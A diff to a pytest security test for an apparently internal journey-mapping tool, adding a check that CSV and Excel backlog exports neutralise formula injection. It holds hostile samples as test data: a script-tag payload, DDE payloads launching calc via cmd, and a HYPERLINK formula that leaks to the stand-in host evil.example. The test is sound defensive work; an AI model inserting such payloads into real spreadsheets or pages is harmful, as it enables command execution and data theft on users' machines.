@@ -8,7 +8,11 @@ report``), the map is written as HTML and as a workbook. Then:
 - Chromium, with every non-file request aborted, opens the reports: no payload runs (each would set
   ``window.__pwned``), no page error, no request leaves, the payloads read as text;
 - openpyxl opens the workbook: no cell is a formula;
-- the personal data in feedback is not in the report.
+- the personal data in feedback is not in the report;
+- the backlog of that world (the pipeline's, with formula payloads in opportunity titles and
+  owners) exported to CSV and Excel: no formula cell in the workbook, no cell of the CSV a
+  spreadsheet would run (each payload starts with the ``'`` of
+  :mod:`jmtools.core.spreadsheet`, and reads back exactly with ``csv_untext``).
 """
 
 from __future__ import annotations
@@ -36,10 +40,17 @@ FEEDBACK = ["<script>window.__pwned = 4</script> the fee appeared at the end",
             "@SUM(1+1)*cmd|' /C calc'!A0 terrible checkout",
             "call me on 07700 900123 or mail jane.doe@example.com, card 4111 1111 1111 1111"]
 PII = ["jane.doe@example.com", "4111 1111 1111 1111"]
+#: Opportunity titles and owners of the journey → the formula payloads that replace them.
+BACKLOG_PAYLOADS = {"Show the delivery fee on the product page and in the cart":
+                    '=HYPERLINK("http://evil.example/?leak","Show fees")',
+                    "Lower the free-delivery threshold to 75 EUR for app orders": "@SUM(1+1)*cmd|' /C calc'!A0",
+                    "Checkout squad": "+cmd|' /C calc'!A0", "Commercial team": "-2+3 team",
+                    }
 
 
 @pytest.fixture(scope="module")
-def hostile(tmp_path_factory):
+def hostile_data(tmp_path_factory):
+    """The hostile data folder (no command run yet)."""
     import table_subsets
 
     if not table_subsets.available():
@@ -63,7 +74,14 @@ def hostile(tmp_path_factory):
     extra = events.head(20).assign(event=EVENT)
     pd.concat([events, extra], ignore_index=True).to_parquet(data / "events.parquet")
     _rename(data / "journey.yaml", {"Running shoes online": JOURNEY_NAME, "Budget Ben": PERSONA,
-                                    "Decision": STAGE})
+                                    "Decision": STAGE, **BACKLOG_PAYLOADS})
+    return data
+
+
+@pytest.fixture(scope="module")
+def hostile(hostile_data):
+    """The reports, map and workbook written from the hostile data folder (their folder)."""
+    data, base = hostile_data, hostile_data.parent
     jm = str(Path(sys.executable).with_name("jmtools"))
     out = base / "out"
     out.mkdir()
@@ -156,3 +174,29 @@ def test_personal_data_in_feedback_stays_out_of_the_report(hostile):
     html = (hostile / "report.html").read_text(encoding="utf-8")
     for value in PII:
         assert value not in html
+
+
+def test_the_backlog_exports_hold_no_live_formula(hostile_data, tmp_path):
+    import csv
+
+    from openpyxl import load_workbook
+
+    from jmtools import pipeline
+    from jmtools.analyses.priorities import export_backlog
+    from jmtools.core.spreadsheet import csv_untext, is_formula_like
+
+    backlog = pipeline.run(hostile_data).backlog
+    payloads = set(BACKLOG_PAYLOADS.values())
+    assert payloads <= set(backlog["title"]) | set(backlog["owner"])   # the payloads reach it
+    written = export_backlog(backlog, tmp_path / "backlog.csv")
+    with open(written, newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [c for c in cells if is_formula_like(c)]     # a spreadsheet runs none of them
+    assert payloads <= {csv_untext(c) for c in cells}       # each reads back exactly
+    assert {"'" + p for p in payloads} <= set(cells)        # escaped with one leading quote
+    wb = load_workbook(export_backlog(backlog, tmp_path / "backlog.xlsx"))
+    xlsx = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [f"{c.parent.title}!{c.coordinate}" for c in xlsx if c.data_type == "f"]
+    shown = {c.value for c in xlsx if isinstance(c.value, str)}
+    assert payloads <= shown                                # kept as text, unchanged
+    assert all(c.quotePrefix for c in xlsx if c.value in payloads)
